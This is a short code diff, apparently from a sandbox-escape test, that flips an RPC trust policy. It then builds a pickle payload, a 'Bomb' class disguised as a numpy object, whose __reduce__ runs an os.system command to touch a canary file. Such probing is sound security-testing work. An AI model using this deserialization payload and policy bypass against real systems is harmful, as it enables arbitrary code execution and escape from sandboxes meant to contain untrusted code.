@@ -23,8 +23,8 @@ peer.Peer._encode = lambda self, value: data
 
 # %% policy turned around
 # Let the student's peer behave as the trusted one, so that pickles flow the other way.
-import mlmath.sandbox.rpc.peer as peer, pickle
-peer.Policy.trusts_other = False
+import mlmath.sandbox.rpc.policy as policy
+policy.GuestPolicy.trusts_other = False
 class Bomb:
     def __reduce__(self): return eval, (f"__import__('os').system('touch /tmp/{CANARY['mark']}')",)
 Bomb.__module__ = "numpy"
